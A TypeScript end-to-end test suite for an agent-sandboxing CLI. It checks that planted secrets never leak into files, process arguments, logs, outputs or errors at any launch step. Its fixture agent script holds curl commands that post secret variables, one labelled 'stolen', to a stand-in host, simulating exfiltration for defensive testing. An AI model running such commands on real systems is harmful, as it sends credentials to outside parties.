import { spawn, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { pollUntil } from '../../src/launch/readiness.ts';
import { readTextOrNull } from '../../src/platform/processes.ts';
import { startOrigin, upstreamCa, type Origin } from '../egress/support/origin.ts';
import { innermost } from './support/innermost.ts';
import { leftovers } from './support/leftovers.ts';
import { holds, plant, search, type Look, type Planted } from './support/planted.ts';
import { shellElf } from './support/shell-elf.ts';
import { collect, firstLine, World, type CliResult } from './support/world.ts';

/** Every way in that a value can come, each with a value of its own, and every place where one could be left. */
const HOST = 'api.example.com';
const HOOK = path.resolve('test/e2e/fixtures/stop-at-each-step.ts');
const CLI = path.resolve('dist/cli.js');
const AGENT = `curl -sS -X POST -H "x-key: $PLACED" -d a=b https://${HOST}/echo
curl -sS -X POST -d "stolen=$FORWARDED" https://${HOST}/echo
curl -sS https://${HOST}/gone?x=$PREPARED
echo ready
until test -e done; do sleep 0.1; done`;

class Garden implements Disposable {
  readonly world = new World();
  readonly prepared = plant('BOT_BOTTLE_SECRET_PREPARED', { forwarded: true });
  readonly forwarded = plant('${HOST_KEY}', { forwarded: true });
  readonly named = plant('{host: OTHER_KEY}', { forwarded: true });
  readonly placed = plant('a value with a placeholder');
  readonly token = plant('a route’s token');
  readonly login = plant('the login of the upstream proxy', { exported: false });
  readonly git = plant('a repository’s token');
  readonly kept: readonly string[];

  constructor(port: number, withRepository: boolean) {
    const { world } = this;
    fs.writeFileSync(path.join(world.root, 'claude'), shellElf(), { mode: 0o755 });
    fs.writeFileSync(path.join(world.project, 'agent.sh'), AGENT);
    const ca = path.join(world.home, 'upstream.pem');
    fs.writeFileSync(ca, upstreamCa.certificate);
    fs.mkdirSync(path.join(world.root, 'tmp'), { mode: 0o777 });
    world.settings(`upstream:
  extra_ca: [${ca}]
  proxy: http://ada:${this.login.value}@127.0.0.1:9
  no_proxy: [${HOST}]
  resolve: {'${HOST}:443': '127.0.0.1:${String(port)}'}
`);
    this.kept = [path.join(world.home, 'settings.yml')];
    const repository = `git-gate: {repos: {web: {url: 'https://git.example.com/web.git', key: {provider: token, token_ref: GIT_TOKEN}}}}`;
    world.bottle(
      'planted',
      `agent_provider: {template: claude, settings: {cli: host}}
env:
  PREPARED: "?The value"
  FORWARDED: "\${HOST_KEY}"
  NAMED: {host: OTHER_KEY}
  PLACED: "\${PLACED_KEY}"
egress:
  log: 2
  routes:
    - host: ${HOST}
      auth: {scheme: Bearer, token_ref: API_TOKEN}
      placeholders: [{env: PLACED, in: header, name: x-key}]
${withRepository ? repository : ''}`,
    );
    world.agent('keeper', 'bottle: planted');
  }

  get planted(): readonly Planted[] {
    return [this.prepared, this.forwarded, this.named, this.placed, this.token, this.login, this.git];
  }

  get environment(): Readonly<Record<string, string>> {
    const { world } = this;
    return {
      PATH: `${world.root}:/usr/bin:/bin:/usr/sbin:/sbin`,
      HOME: world.root,
      TMPDIR: path.join(world.root, 'tmp'),
      BOT_BOTTLE_HOME: world.home,
      BOT_BOTTLE_SECRET_PREPARED: this.prepared.value,
      HOST_KEY: this.forwarded.value,
      OTHER_KEY: this.named.value,
      PLACED_KEY: this.placed.value,
      API_TOKEN: this.token.value,
      GIT_TOKEN: this.git.value,
    };
  }

  get look(): Look {
    return { world: this.world, planted: this.planted, kept: this.kept };
  }

  start(...hooks: readonly string[]): ChildProcess {
    const args = ['start', 'keeper', '--cwd', '--headless', '--prompt', 'work', '--label', 'kept', '--json'];
    return spawn(process.execPath, [...hooks, CLI, ...args], {
      cwd: this.world.project,
      env: this.environment,
      stdio: ['pipe', 'pipe', 'pipe'],
    });
  }

  run(args: readonly string[], env: Readonly<Record<string, string>> = {}): Promise<CliResult> {
    return this.world.run(args, { env: { ...this.environment, ...env } });
  }

  [Symbol.dispose](): void {
    this.world[Symbol.dispose]();
  }
}

/** Says back all that it was sent, as a careless upstream would. */
function echo(): Promise<Origin> {
  return startOrigin((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      response.setHeader('x-you-are', request.headers.authorization ?? 'nobody');
      response.end(`${JSON.stringify(request.headers)} ${Buffer.concat(chunks).toString()}\n`);
    });
  });
}

function isStopped(child: ChildProcess): boolean {
  const stat = readTextOrNull(`/proc/${String(child.pid)}/stat`) ?? '';
  return stat.slice(stat.lastIndexOf(')') + 2).startsWith('T');
}

const isOver = ({ exitCode, signalCode }: ChildProcess): boolean => exitCode !== null || signalCode !== null;

function lastStep({ home }: World): string {
  const journal = readTextOrNull(path.join(home, 'state', 'kept', 'journal.jsonl')) ?? '';
  return /"step":"([^"]*)"[^\n]*\n?$/.exec(journal)?.[1] ?? 'none';
}

/** Looks at each stop, until the agent says that it runs or the launch is over; answers the steps that were seen. */
async function lookAtEachStep(
  garden: Garden,
  child: ChildProcess,
  said: () => string,
  onStep: (step: string) => void = () => undefined,
): Promise<readonly string[]> {
  const steps: string[] = [];
  for (;;) {
    const stopped = await pollUntil('the next step, the agent or the end', 60_000, () =>
      isStopped(child) ? 'stopped' : said().includes('ready\n') || isOver(child) ? 'on' : null,
    );
    if (stopped === 'on') return steps;
    const step = lastStep(garden.world);
    steps.push(step);
    expect(search(garden.look), `at step ${step}`).toEqual([]);
    onStep(step);
    child.kill('SIGCONT');
    await pollUntil('its going on', 10_000, () => !isStopped(child) || lastStep(garden.world) !== step || null);
  }
}

const LOOKS: readonly (readonly string[])[] = [
  ['list', '--json'],
  ['list', 'active', '--json'],
  ['list', '--all', '--json'],
  ['list', 'ended', '--json'],
  ['list', 'available', '--json'],
  ['info', 'keeper'],
  ['info', 'keeper', '--json'],
  ['start', 'keeper', '--dry-run', '--cwd'],
  ['start', 'keeper', '--dry-run', '--json', '--cwd'],
  ['doctor', '--json'],
  ['doctor'],
  ['logs', 'kept'],
  ['metrics', 'kept'],
  ['audit', 'verify', 'kept'],
  ['audit', 'show', 'kept'],
  ['explain', '--bottle', 'planted', 'POST', `https://${HOST}/`, '--json'],
  ['reload', 'kept'],
  ['diff', 'kept'],
  ['cleanup'],
];

/** What an operator would look at while something runs, and after. */
async function outputs(garden: Garden): Promise<readonly string[]> {
  const found: string[] = [];
  for (const args of LOOKS) {
    const { stdout, stderr } = await garden.run(args);
    found.push(...holds(`what "${args.join(' ')}" says`, stdout + stderr, garden.planted));
    expect(stderr, args.join(' ')).not.toContain('fault of its own');
  }
  return found;
}

function listen(child: ChildProcess): () => string {
  let said = '';
  for (const stream of [child.stdout, child.stderr])
    stream?.on('data', (chunk: Buffer) => {
      said += chunk.toString();
    });
  return () => said;
}

describe('S8 G-SECRET a value on its way into a bottle is nowhere else', () => {
  it('at each step of the launch, in the work, in what is looked at meanwhile, and after the end', async () => {
    await using origin = await echo();
    using garden = new Garden(origin.port, false);
    const child = garden.start('--import', HOOK);
    const ended = collect(child);
    const said = listen(child);
    const steps = await lookAtEachStep(garden, child, said);
    expect(steps).toEqual(
      expect.arrayContaining(['state', 'workspace', 'home', 'runtime', 'bottle', 'bundle', 'confinement', 'agent']),
    );

    const answers = said();
    expect(answers).toContain('"x-key"');
    expect(origin.seen.map(({ headers }) => [headers['x-key'], headers.authorization])).toContainEqual([
      garden.placed.value,
      `Bearer ${garden.token.value}`,
    ]);
    expect(holds('what the agent was told', answers, garden.planted)).toEqual([]);
    expect(search(garden.look)).toEqual([]);
    expect(await outputs(garden)).toEqual([]);
    process.kill(await pollUntil('the gateway', 10_000, () => innermost(child, 'egress')), 'SIGKILL');
    const inside = garden.world.spawn(['exec', 'kept', '--', 'sh', '-c', 'echo in; read line; touch done']);
    expect(await firstLine(inside)).toBe('in');
    expect(search(garden.look), 'while somebody is inside').toEqual([]);
    inside.stdin?.end('\n');
    const { code, stdout, stderr } = await ended;
    expect(code, stderr).toBe(0);
    expect(holds('the result', stdout + stderr, garden.planted)).toEqual([]);
    expect(search(garden.look), 'after the end').toEqual([]);
    expect(await outputs(garden)).toEqual([]);
  }, 180_000);

  it('after kill -9 at any step of the launch, and once cleanup has been', async () => {
    using garden = new Garden(9, false);
    for (const victim of ['workspace', 'bottle-process', 'bundle', 'confinement', 'agent']) {
      const child = garden.start('--import', HOOK);
      const ended = collect(child);
      const steps = await lookAtEachStep(garden, child, listen(child), (step) => {
        if (step === victim) child.kill('SIGKILL');
      });
      expect(steps).toContain(victim);
      const { stdout, stderr } = await ended;
      expect(holds('what was said', stdout + stderr, garden.planted)).toEqual([]);
      expect(search(garden.look), `killed at ${victim}`).toEqual([]);
      const cleaned = await garden.run(['cleanup', '--yes']);
      expect(cleaned.code, cleaned.stderr).toBe(0);
      await expect.poll(() => leftovers(garden.world), { timeout: 10_000 }).toEqual([]);
      expect(search(garden.look), 'after cleanup').toEqual([]);
    }
  }, 180_000);

  it('with a repository that has a token, at each step and in whatever it ends with', async () => {
    using garden = new Garden(9, true);
    const child = garden.start('--import', HOOK);
    const ended = collect(child);
    const steps = await lookAtEachStep(garden, child, listen(child));
    expect(steps).toContain('bundle');
    expect(search(garden.look)).toEqual([]);
    child.kill('SIGTERM');
    const { stdout, stderr } = await ended;
    expect(holds('what was said', stdout + stderr, garden.planted)).toEqual([]);
    expect(search(garden.look)).toEqual([]);
  }, 180_000);
});

describe('the search itself finds what is there', () => {
  const own = plant('a control');
  const look = (world: World): Look => ({ world, planted: [own] });

  it.each([
    { why: 'a file', place: (root: string) => void fs.writeFileSync(path.join(root, 'file'), `x${own.value}y`) },
    { why: 'a name', place: (root: string) => void fs.writeFileSync(path.join(root, own.value), '') },
    {
      why: 'a part of it',
      place: (root: string) => void fs.writeFileSync(path.join(root, 'file'), own.value.slice(0, 30)),
    },
    {
      why: 'base64',
      place: (root: string) => void fs.writeFileSync(path.join(root, 'file'), btoa(`ada:${own.value}`)),
    },
    {
      why: 'base64 at an odd place',
      place: (root: string) => void fs.writeFileSync(path.join(root, 'f'), btoa(`b:${own.value}`)),
    },
    {
      why: 'hex',
      place: (root: string) => void fs.writeFileSync(path.join(root, 'f'), Buffer.from(own.value).toString('hex')),
    },
  ])('in $why', ({ place }) => {
    using world = new World();
    expect(search(look(world))).toEqual([]);
    place(world.root);
    expect(search(look(world))).not.toEqual([]);
  });

  it.each([
    { why: 'an argument', argv: ['-c', 'echo up; read line', own.value], env: {} },
    { why: 'an environment', argv: ['-c', 'echo up; read line'], env: { CONTROL: own.value } },
    {
      why: 'a file without a name',
      argv: ['-c', 'exec 5>$1; rm $1; printf %s $(cat $2) >&5; echo up; read line'],
      env: {},
    },
  ])('in $why', async ({ argv, env }) => {
    using world = new World();
    const [nameless, kept] = ['nameless', 'kept'].map((name) => path.join(world.root, name));
    fs.writeFileSync(kept ?? '', own.value);
    const child = spawn('/bin/sh', [...argv, ...(argv.length > 2 ? [] : ['sh', nameless ?? '', kept ?? ''])], { env });
    expect(await firstLine(child)).toBe('up');
    const found = search({ ...look(world), kept: [kept ?? ''] });
    child.stdin.end();
    expect(found).toHaveLength(1);
  });
});

describe('S8 G-SECRET errors name a value and never show it', () => {
  const weak = (): Planted => ({ ...plant('a weak value'), value: 'zqxjkw7' });

  it.each([
    { why: 'a prepared answer is missing', change: () => ({ BOT_BOTTLE_SECRET_PREPARED: '' }), says: /PREPARED/ },
    { why: 'a host value is missing', change: () => ({ HOST_KEY: '' }), says: /HOST_KEY/ },
    { why: 'a named host value is missing', change: () => ({ OTHER_KEY: '' }), says: /OTHER_KEY/ },
    { why: 'a token is missing', change: () => ({ API_TOKEN: '' }), says: /API_TOKEN/ },
    { why: 'a repository’s token is missing', change: () => ({ GIT_TOKEN: '' }), says: /GIT_TOKEN/ },
    { why: 'a token no header can carry', change: (own: string) => ({ API_TOKEN: `${own}\nx` }), says: /API_TOKEN/ },
    {
      why: 'a placeholder’s value no header can carry',
      change: (own: string) => ({ PLACED_KEY: `${own}\nx` }),
      says: /PLACED/,
    },
    { why: 'a weak token', change: () => ({ API_TOKEN: 'zqxjkw7' }), says: /API_TOKEN/ },
    { why: 'a weak value with a placeholder', change: () => ({ PLACED_KEY: 'zqxjkw7' }), says: /PLACED/ },
    { why: 'no bubblewrap', change: () => ({ PATH: '/nonexistent' }), says: /bubblewrap|bwrap|claude/ },
  ])('$why', async ({ change, says }) => {
    using garden = new Garden(9, true);
    const env = change(garden.token.value);
    const args = ['start', 'keeper', '--headless', '--prompt', 'work'];
    for (const command of [args, [...args, '--json'], ['--debug', ...args]]) {
      const { code, stdout, stderr } = await garden.run(command, env);
      expect(code).not.toBe(0);
      expect(stdout + stderr).toMatch(says);
      expect(holds('the error', stdout + stderr, garden.planted)).toEqual([]);
      expect(stdout + stderr).not.toContain(weak().value);
    }
    expect(garden.world.slugs()).toEqual([]);
    expect(search(garden.look)).toEqual([]);
  });
});
